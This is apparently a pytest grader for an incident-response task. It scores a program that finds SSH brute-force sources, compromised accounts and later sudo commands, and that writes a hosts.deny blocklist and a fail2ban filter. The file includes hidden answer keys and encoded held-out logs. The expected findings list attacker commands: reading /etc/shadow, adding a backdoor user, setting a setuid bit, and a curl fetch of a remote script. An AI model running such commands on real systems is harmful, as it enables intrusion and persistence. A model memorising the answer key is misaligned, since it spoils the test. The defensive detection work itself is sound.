import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'hosts_deny'
BLOCKFILE = 'hosts.deny'
VISIBLE = {'blocklist': ['61.145.121.50', '159.164.197.250', '2001:db8:fce:ac32::cbc'],
 'findings': {'brute_force': [{'failures': 7, 'first_seen': '2025-07-04T15:59:51Z', 'ip': '159.164.197.250'},
                              {'failures': 15, 'first_seen': '2025-07-05T18:14:03Z', 'ip': '2001:db8:fce:ac32::cbc'},
                              {'failures': 7, 'first_seen': '2025-07-05T23:31:00Z', 'ip': '61.145.121.50'}],
              'compromised': [{'ip': '61.145.121.50', 'time': '2025-07-05T23:44:12Z', 'user': 'hugo'}],
              'sudo_after_compromise': [{'command': '/usr/bin/crontab -l',
                                         'time': '2025-07-05T23:44:59Z',
                                         'user': 'hugo'},
                                        {'command': '/usr/bin/cat /etc/shadow',
                                         'time': '2025-07-05T23:48:55Z',
                                         'user': 'hugo'},
                                        {'command': '/usr/bin/tail -n 50 /var/log/syslog',
                                         'time': '2025-07-07T05:45:40Z',
                                         'user': 'hugo'}]}}
HIDDEN = [{'files': {'audit.log': 'H4sIAAAAAAACA+2dbW8buRHH3/dTCH5zLXCgySE5HBowgtRJ2gN6bXEPrwPFVhIfYsmw5Ov123fIlWZlLdeS7F1l6+iAnCXRkDQ/z3D+w8fFf28n57/+/Pan968vLn4Z3cw/nY/vr64XfzbBGzQh2KC8CWfRw1/ORrfXV+eBAo7u+YEejdMPB9FFDBD9aD6ZP3h6/+G38/vp5Wz68Xo6ucpv/t3s9vzfr388G19ezu6ni+vpp9Gnu/F0Mbubn9+Ob97fT6//GHHj4vxk9uXT+GQ0+WNyfnJ6P787nX+4np7O55+vTkafZ/PFdHwzOT87+8j/nRmtvFOgQUU3Gl9d3RUbFpO7m+vp+Ms5v8nojr/r/P7ycjKff/frD2/OT+5ms8XJ6HV+fD+dTxYnf1oInH/8628//LOFToxMx7bQMVrbzIVcbAXyZfbpejpa/fbjFr/awb7Tq8nvp7eL+al53MyKsDxas/f1r7/8vWEuOW0UoGZznZhLsQNnuF98nrAzXI4X17NpRw7hojJolSG9SWyt5RkuUYyXjMgGy4h8t4i6jpe+8ZQjJvNxLrkQtvCRiIFI/URMycCeQiZqHxU6YHvDyt5o6GAh89v4Zvxlj06UwaDiHmyzj1m93nW8ZD4xeuZD3fLZHi8DYlMOlqhRKx2S88QWOOz+Kyxup2Dxe6eXhnkSKvpxK5d864drBl/8+KZpriHD2dSdRdRirrMj6RQedg9ILQn18j9XbODn2c3ktIrWy5urc3gXPGdrgHcIGPEtP7ch8j+HHt9g+nkBzBp9fs0ECA40vsWQfjvQGrZM7f5qdlIjSTSgSaP6+LWOY0s4cB4PzDt1F2gEAZqDhMPk5nqfaAgqaR/fcJfV611HQ8UGjGE20MKGfQMzFev8TtGAe0dDw7xdo6HCK4/WzP35l9c/FVwBnVMaUjSstCXnTL1urs62Pv6H59+Yc4J4P7udbGSJzIHf5vv0ZDL9Pf+8TWYtvt9wjcqODVSXd7NpE9Wrmkz6hceZ5MfbYsI47ZSn9Hd39d/9MCXI5/tPs91jAhzHLvGPRg2y1tJ5XGQ+6LhEQ9/Chz3dLcnsJqncvnFRMnBXSVVBlkdbJBUA2KhIJ3tFQsagDyap9uwnUVnu0n1o9CTS0LGmWgJCYkChW0CdJ5Fe4ZTDJdPhFMJ0qIWOpBHgMOonjTTtk2jxT80jZWdw0SmyLLCx1pDBD7EgNSm7Ms1GuSYN3TtDohN1PGMPaKFTD+D0NH5TMO/5xWhBXwN47qUh1VqhFpdEbfraIjxLX7OG1klD8+usZfgZK+3tKtrtqaKLGSK6NCbG0imslCJpfbgMMf5yfTnZbyTGkjJQGqeoGjpPEYkQRcuEbLeEtvcKg6LT0i0kPFxbMB7XgofDBKow0buVGvCUUaoN+6RfgMfNXCKuH26LGP67Ov5A1lTBi8HQ48juq6Uz3I5/n+whGIArQEYSGzmibmg4w8fx9ZfJ1S6R0kKGlLWJDAoZ549kIFgNyhhkMqEmg0cyTIYTLUc8kyEhE+Bg+ecAgJ6ZfzIh1EmKxG4Jbc8/g6JTzj8VHtJnkXQLHs4opgKzW0Vv9q7om+ZJ+nGPW7kkXD/c6g6IqDjfsL1G7CU9SHewnJGNiqbBSxq6d4eEJ/e0BC14xB24uu3JH5r27VqyPuYPpUKFAI3CpE5J1KkxZiSGPjSZvN5aqCy/Qkul8hrTa4Bv0eDFai4A3gTP1YsNFncY/bdNBMvPXGewLXNwoW6V9Sw8ydWWH0CHFUd4y0FAUbFY9J5L1odzYQ8aOk6p/DcGpS2XdCQC1XjTP5h9qpWvRAa1imnFAYlANeSPZIDrW6zmlkkEqol0DKbIWoLBpGASfQpWH8FEo0n5VPeTyNI0pTGokqZvMoWMbI3XXNEQV8FRBCmgG8nk0sNpJmpbubOWkatZn/4SckGjVh+5Num0xR+si5yOSbMOj6JLIXxj/lAk4w2xJMxkRJKyevnmuxDWbxgV+zGDEe3Kln9TYIoLGpxGCixUuHONThY0gG0uaDDxBS1pKLIIBgmUd8lLVnKWnYAKiztMfEHLOwoBQ0QxKpuW9UTRr1bDsPpYMKRMQC6CgwoPR4I2mrrtThIcUpj72VDTwSOdTCdqZIWfdidEEbLW4qA6268HB9BXs6BRxGxSToMqDL8mnchvDWcsWkXS2miPkVXhsZ7yWoE0yrbC44w+4qnwIKEi5xIe0b8Ojj0P0wmaHJfRabAurSUROofol/dYr+nSYmJkCkYZHx/Q2WjqnI7lotKZREcGeR0Oa5D369HhypLrp5joyEiv1+7oO5kOEr8v5MgStezBHH0n0wmQFlVmOqKWvQtH38l0yDhlvU50qKZDR9/JdGJak0uU6Ihc3thv8U34TmnAIuGJXpFNSctoGbFAKIxYePuiRyyCjtozC8DEQrSxJ3Ow9T2H8ZhnLfHJlDigtE2UoFtKne7bOQih0rqOFaLc5xjbgkjmVMDHHrbutJm461Kf9r07zWkkNtik/XOVwSJ9UYe2eaRAsMc8Uj0ddH118qT9mo9NEBXtcd6s7BGxig7a7AEPT5oXC1Y2rfIrmGbGDDr+IA1v8E2eGbP8/3r+jNvTLFmeLUubXPMS/MMgQaNXSEShIvo2JC7G500V8jN8h2/Tnl2EDOTiSat1HjO0mBPBGu3z1ho2NciMBrlmTiR82RMawXlAp9Cn4TRDog+0L81o2BcOwxOl2R0ICcZKS0YbC2KJDLxwGBEiRWVtKuhBlKP1hbmuEOhlwyATgtPKUBJFYCRMoACD3ItW0QTceWqlY0Yh+hDDQFYhgdbm7OoDnYEd05m3Hz6yYPqwlIdtjZ2WpIkQauV9qrlA5CEn9YHM4AwCkQFSvnIiEZTBuCOiNUQOFDtQQiQaNQxlyHAYhAi5CsoZSiRrcEPZ/TYIRGmiiJN2QiQjqwHtMc7WECEoqlK7DK+GwSwWHAQiC1bZkBOajLEGCkcvqhF5RqR98iIryxLI+COiGhHqdExY8iJrakThGGhriAzkVWOMSLQ1eTgiWkfklNWpRrcironwGGg1onS6rYsp6VsR170eXvl/pxyDQyaUuyLR1tG7IyEhRJprWJvDTLR1xG/Uh5rzZAQxRK8gz6xaGUVOW1uHd1wXO7tJdQA1jiqRho7nyJZ4rE4Dy5Za8Mh5XX0d11WwTybI7JOP6yrEiwU0XlHI+k+GjjUcIHP37wrP6klsOplVOZ0W9zgZRz7ISSzDJxNXi8KcDCprNEcyEDQqj0kHOxAyUR/JQEhHpJlMxtZk8EgGApLCkEYDnexTM/rb8pni7JXXPp3LAUmqOF9PeBe28PkYXvhUnged9q1hWgXmUOY1Hy5yr2CAcS/6iGbyGNIZFC7HTKhjBod4niCQAu2LBzrVLV3L2ETIKFawiRC1EJIjBbkH6udIwZKFu541+tiZgs2FQOSD81a5PO/vRMkakLVesGG0M9vXRi2/Q8t5/mkFUKwOCuDnXJFz2aD5dUyn+fPvXeA7drjluf/VsyetFFp+i3Us2wIkePQq5BUhXsSr6eRkia6LPFMtBoyN8zbrhs6jI+OhnFi8acFTn+0fdT9VXsHAXZdBtld5pdAga0HxF0zmiiw1XtbI4WZZG7eHRvUNDhkZhcWC1ZdYQ7JFbKGBdFJi3pMgN2hFEw5Q7u55+YtLB+IBV1lNuVW3dKtEGQ73oOnuNYZTK9Hgh3p50NMYPWuZeYbEhUxejC83bnUEqfMbhPoGVOxcK0I2D5zInVubhOQaoVTo9HKNUMnCXY8zfuwioaJTOKPTvtZscq1HOzmepvMDJdM9AEGZ5vnWdUPnLlHxCZkPtfCR4xXRmH5OlCwY2M+JkmywxbAcCPK1GI227UhJC/aZR0o6TqIW/5rW6oMOOtgnJdQtR0iWfD8ET8rmrelyjVYEPcgr1bgcAdZdjUpMXu/c8zMdl2db5IatTTrSGVLo6U61pn27Tic82hWWRARR5DIsVx5ybVYECMM6BiSpb88Jgn+YxmUway0dKyxiEsrHNLlUX7IF3gz1poinMXqmwmJIVllMU1JyAVdHkDof3OkbULlTyYRc3vwiV3BtEpJxDiLoZ3CnZGFPF0YQRocsu/PojtzCFQFhoLdwpVXiIQnQwojYsqHrsMmEYp6Vk2u4OiLU9ZBPv3TKMcN4vNKQFJncw7WJp76Hy/Y0sV8w8Pn3cJUEaCRt840ybK4IUKgvX9oc8mm9LXzHIZ+nXb7UwZBOsDaSCphGukO938vYofYMaeNzugu6ca/vWkvHfUPFiGLqG+Qqro4Ydd439Myn2DtUgGLebyBXeG0CklgJO159vH/vULDwqet+/gduCU/VaIEAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA1NQQAE++cmJOQolmbmpVgoayfk5OanJJakpCkYGRqa6BuZApMmlgAZCgIoVqvLzgDpcS5L1Q0OcuYIri0tScxWSc/KTsxWKK/OSM4ry8zKrUlOsFCpTi9FM8AsJUChOLSrLTAaakJhcklmWygUAj30IlZYAAAA='},
  'host': 'sftp-partners',
  'truth': {'blocklist': ['45.216.171.159', '218.176.237.70', '2001:db8:23a8:53bf::fb9'],
            'findings': {'brute_force': [{'failures': 7, 'first_seen': '2025-07-05T04:14:59Z', 'ip': '218.176.237.70'},
                                         {'failures': 7, 'first_seen': '2025-07-05T09:40:08Z', 'ip': '45.216.171.159'},
                                         {'failures': 15,
                                          'first_seen': '2025-07-06T16:57:30Z',
                                          'ip': '2001:db8:23a8:53bf::fb9'}],
                         'compromised': [{'ip': '45.216.171.159', 'time': '2025-07-05T09:50:56Z', 'user': 'hugo'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/id',
                                                    'time': '2025-07-05T09:52:37Z',
                                                    'user': 'hugo'},
                                                   {'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2025-07-05T09:57:31Z',
                                                    'user': 'hugo'},
                                                   {'command': '/usr/bin/crontab -l',
                                                    'time': '2025-07-05T10:00:10Z',
                                                    'user': 'hugo'}]}}},
 {'files': {'audit.log': 'H4sIAAAAAAACA+1dbW8jtxH+3l8h+EtaIKDJGXJIGjAC9+7cBmjaIi+fA52tu3N7lg6WnKb/vjNcmVxLu9bbrr31KU3q9a6s1Tyal2dellz898vk/Jef3v3468WbNz+Pbucfz8f31zeLPxrvDJlgo1FOw5nVRv/pbPTl5vo8RGNH93ygR2P5YSHaSB6iG80n80e/3r//1/n99Go2/XAznVynd/9m9uX8nxc/nI2vrmb308XN9OPo4914upjdzc+/jG9/vZ/e/D7ii4vzk0/3H2cno8nvk/OT0/v53en8/c30dD7/dH0y+jSbL6bj28n52dkH/ufMaOWiAmf4PxyNr6/vmq8sJne3N9Px53N+m9Edf9r5/dXVZD7/5pfv356f3M1mi5PRRTq+n84ni5M/LDI+f/vHX77/ezNApLUAZFoAMlrbChrTjsnn2ceb6ejh1U8L/d02Ep5eT347/bKYn+LTglYo56OaxG9+eLsubyBSAF7khSyvxVEW9LHIzmOzyFf/uWYJP81uJ6fVJ7i6vT6HS89/4AEuCSjSO/5pvPYWNJ/XZPk3S66GTgLn/pr/PMvdInJ1k5rINUEvfvn5r6uSAhoU1TciKWZJCTpQ/fvFpwmr/tV4cTObdqT+YJW1ihVsRTXy+QNUv8k1CD6gtE2uwXaLT9euoU9sGt3CEpwYBRzXAk62ETTQj1tYly87BdehUwAk45Q3KNJSljbaNqeAlg5zChck54DekaE3hOwU3oCGt96xo0CPFDa7CNOBi3AApGJIzt8v5Y78hQ/URVhSqKxe1ZKH0107CEbHK+uSVoRu0enaQfSHTLN7SNA4TIoTW6DJ1hJC7Mc9rImXvYPu0js470FFK8KCLsLGNu9AoF/cO9gOvEMAljukLxlMlhuH6h0cSLxg5rrKLR/Od+0fGB/kt3aCD3SLT+e5RY/YNHuIBA7qBA62gFNIttU95RVr8mUXAfu6iGZbweg5kkqsAJvFXaYVz2Ern8d38x0IZeAcKCof1hhXvtC5tWAMCmPyJq5bhDZby5DQabEXgce6BA+1wMMWAFVEdX4re4GdCfe6gNlgzNNyVhDnow0xNXBiqrQLIm5hni6n4bAisW3TgVpMrT5BS0y1dElIfyaOqxxFOY7ulYRXt6gJvEFM9nikgpUcHAqF9KaNOnDEPYw67CEmHE4VEMBEllPSRch80OjQn/v7bnfLBgNsYcoFFf0jxX90Yc2yP4xvPk+ut3F7zcjw2waSehNm8mj6DAwPyFSfdcDIINuGR9EZzPSSz/ePzOzzx/GwkbGe/TAJMplYmhiPyLCbC0prCRuYWSXf8GhNEDQqzlUFmUxAwcJRZ1AzMr7SmUw8wX9dsemnny9+XOPkDqJk+KlFgA+k0+iIuo6Nriinhiex4NfMGYRfZ18mK0lKIqT8Rt/KL5Ppb+nnF5Fk8e0KTW80squ72XSds35XwJAXPM1N0/HTVC14HaNCSOEoM1LUsY2RYrB7MVKPD2TNOyLvU00nNYbkFXtVdp5ipY1ffOQAQ9JxE2FD+eIf1/erL55ceD1ffBMa3ji0wMmIJO8Ya2bgG9DAVw4GWEue7UAIq9UZjIC0DkaE1w6GA05TgSSqWlPAsA1gkKZXjgZ7PDDKg9iJhYyGt3Ydjadagv93aDTQCgYjIHLKKyTdZiqKffbO9qAVxhgVSbEzU7jSHXp0pVPKxdhE0op08iGZjKIbFk1/IWyiDl5pn/Qm01Hp6Rz1BqMBryIKVbe5CMrHR70RbKz4GyvYZH5qDR71hrGBgJwiySiPzWVW+5i/fbV6Y9mmNAjVt7k0ayke9Uawoago9aRcLs7aQIPs2u0L0UF9uyVGMbUwnOkWo277dv3j09S5E4C8XhqYgxaAStVAQx+du2YJ+2jdsbyeb7WUNxNfp9tbdzbsUCgptY+b65POqyEN8lityT7Ik8mqM6ZNHormsFYkkz16S5dkQSMHKXTMjDW/ztJbzz/hnQ97de12FlxmFpaCZybqliMaDYL7cGAPFtNUUzXLhKApeMv/03jBQl+iQWZ+8I7hMPz/BjXbyjt+g0vPZ2XqSf6OLneHasc+blOksGQ0KUvCvlxmpo70oBiGdSo6BfyveVxEfnSh2xhqCWJQ5CTXc5mXuhAG1Xh4GWTYrlWodCazUhfNUWfIsjWx3ggymZOShkFx0pdBhrRXGKXgSLogE4/WRORRURoXoMxDyZivXmecsZaUT6NjlAkogTsiYxgbZYJ4YMpUlQZWF3gZZDxYxfxFkMmkl7w+6ozxhGxNyQNnVuw1fFUeuLH/4zBygunSTDeVcQH/eDBJL58UfUWN0qa6CKGxDAYIh6HMez2EZ6mLLGa/jXd7sphphYHGJ4uXV7quiywB8gmg0AIQ55ZU5ZZotqqL0D5PFq9KuO1DhBXK+WiD5yAfglQTpbNDmdVymt2/53gOdTjIq5JnF8qRWFrHPvNa7/GIjaegtWHOL3rjM7P1MRyxSdg4hSZhAwWbeMRGsAmkHErlxWd2G+BoU4JN6iRryRZ95rfB2a8Mm0Ye521Eq4JJ4Lgy76Ybxj7tqx94CxodqwpJGdwXVhtMaJhqsq8ejeCNUZBWxfC+6AaYdTT49a8bjaCj4zTZ+2QpZU7Wk2sYkLavHAwTQ0TlqlhcxmSDbwCDgF71+F9wwIAo1EJogy4Bxg2jtARMKc+u34ezcYT3Z+7DxJ+deVg+/t12sdMQzAiB5SiTEuSQaW0IdhglpkEghAgKUqkpZHIbzUBKTcNAiEDptHxbyBQ3whGhgpBzqEx6vjRkohuPfqiOEGllMVlZLuhyLDvqUEaIQEa8EkKFAWuNR1ddIPJBEUgnKRRarM0RogKRZA46DSiHwpW1paOhZYgiclafZv9DYdDaHTlRDSLOxi1JxhXL42f6OWjjELVovfMUnHeBFFoJ+bE8lKYjDrD1JP138grianmrXOi48bTEx6YneSO04ZM7TyH4fjpPDRJuO5C7U+OJBSaDSpNkWhGzwAaeb459evPv2W4LLAlrDdiw/tDyQrdj7EuMyEiVL9qOMdpsNIPCp8VqEkCpQxddG0ASrKran7dbWY3bYwWqVQm3XbJtCXI5fHL+ObigUauYxhliob1m+RB8MvnHrsLC5tWZKtNtHoCWMWI+SgPQ/LtGhzqNMxOZ9Lo3dEky8Iw+eqx+22sSvPoQNV+yyToYBfZWid7GQm+Nf56QMh/f3mxvHAiKopLFpVZUp1zo3DgqfNIsQwxt+BjJmNJyhrSVbeCuttEg4LYrnlYQ56MNlhGdDqwOyVnGmrg0ynI+lhjMZsuoPkK3i2E0jPZXt6lJvUH3iUmUVlpahSxOTdj4LLq/w9CXaEBQYNk94tpSv7UrXWt/hZDRVhAybQhJNlxp/xOjX3X1Nzurf4OI247yVDDno6f1n1g4VKyIInBhkBKUsqSPZeY/26j/1UfoVv8bfH91m5rUm/TfyMOzaSEDowt7BBMGqP/y9cuCSGsrQT+c71z3EzpRVo9iA2hDJ+uBBdOP7q8LeLjmN+USrHrkVEAQeQsNBGcGNf8qiHhZFMvotcyyXOi2NCHQRIWYDKXwRQhHaBgaWQrbpRha+CNqOkLD0Hg2qARNoY4I8QgNMwinMCbfWmgm9vl8xmHRZw+EDitbVBDZKEzE6I4h6jw49wpPS3gWfFxwgo9pwyeHZxmO7Cc8r0u4ba1vR2YaNfB9kryFmSL5NmbKTnkvZtrlZhRdsFQmxVY5nwQvLBWfKUvbsX5nIT2Cs05TH853bgcJHsIEj22DJ1fvwIZ+qnfrAm5LU3cs3pGTyZBgksCFp9qyDIVblRk3p2jLD9FSvUtVOdm/jd4+2AHbhVtmbCC7vLGVeHn1NssSNFRslvevI7LJLvj2oIiElJpCSi3SACt3nMRoFZuSt3S6c6NI2HiZczbGt2GTa1iErp+y3Zp82xa0dyraEUHQClOmagrRtGWzgdWind+vZtdlZOiifueDtYoTcpG7sEgbh7jHp3FSZVfGwlq3sFzp3A4SQpyMMUKg2xAqm3z6nnbzaxIxm4LtbseuQEE7r6ASuLBCp6F1yy6rX2CXT33wzhuBbx84DlrRfiiE0OEzDADu5vz5GyHDX75Ze9AlX+g4vYxeKmayKqABrEHzfOll/wgdmF4miDwliGzHEHXNHvqFp9lzJnyCS9bl2vDJAdU47IdBNEi4La9u5xBNCuG1NaSiTwIXOum8GWAwRVnoQBKOtWBau9K1SghCXmlZ1cmAb0MoBxYD1E8wbRKxj+0vgzfIAhtZJNNA4ZW0fFqwIZj6SC8QTHfd8bJJ+5H5a7Vdl4FYE3WIrWATFUb2CeuTdflC57qf8IkyF2BQt+FTSk/a9VNta5Dw8G5Y4zNvHpHpFcrO0AYLk4y2YaOM4PF1P/PGKZ0PSstySgYL1ySjB0qopGnKX1+DjdSudEypKpCoshHsGKQeCjK9AtTiRRJCqWaPtg2hTKosht7KMmsi9jJO5TFGvpdNTsTVBLZtRfvWvUS2LdrvFUE7KNPzTTnDtymhqO0oRagHWaZ3HOxVXBskzOc7V/0Ej4OkCb4NnlyyDuh7KtOvCbhtt+qpMn2bQnhl03RRbacp2VRqeAkFSGtNGbOWYZYLfWiEZ40Qdl3be2oFn83U+tB0okHCrBK4907ZTQrhSMYtk8C1/aUowgA5NrgqRDTsBF2udK4SFUKpblXbdGoFoTJuueXe6Tuz7CYRt42POzW1vYsuqpAq+PV9pYxui4/e2BdvauttouX/AMR76ueejAAA',
            'timedatectl.txt': 'H4sIAAAAAAACA1NQQAE++cmJOQolmbmpVgoayfk5OanJJakpCkYGRqa6BuZApMmlgAZCgIoVqvLzgDpcS5L1Q0OcuYIri0tScxWSc/KTsxWKK/OSM4ry8zKrUlOsFCpTi9FM8AsJUChOLSrLTAaakJhcklmWygUAj30IlZYAAAA='},
  'host': 'ledger-01',
  'truth': {'blocklist': ['111.96.109.30', '212.45.58.97', '2001:db8:a92b:5fe7::724'],
            'findings': {'brute_force': [{'failures': 7, 'first_seen': '2025-07-04T12:30:19Z', 'ip': '212.45.58.97'},
                                         {'failures': 7, 'first_seen': '2025-07-05T18:07:13Z', 'ip': '111.96.109.30'},
                                         {'failures': 11,
                                          'first_seen': '2025-07-07T01:36:21Z',
                                          'ip': '2001:db8:a92b:5fe7::724'}],
                         'compromised': [{'ip': '111.96.109.30', 'time': '2025-07-05T18:17:50Z', 'user': 'lars'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/id',
                                                    'time': '2025-07-05T18:23:16Z',
                                                    'user': 'lars'},
                                                   {'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2025-07-05T18:27:44Z',
                                                    'user': 'lars'},
                                                   {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                                    'time': '2025-07-05T18:33:17Z',
                                                    'user': 'lars'}]}}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("part", [k for k in ("blocklist", "timeline") if k in VISIBLE])
def test_deliverable_on_this_host(part):
    msgs = problems("/srv/ir/out", {"findings": {}, part: VISIBLE[part]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
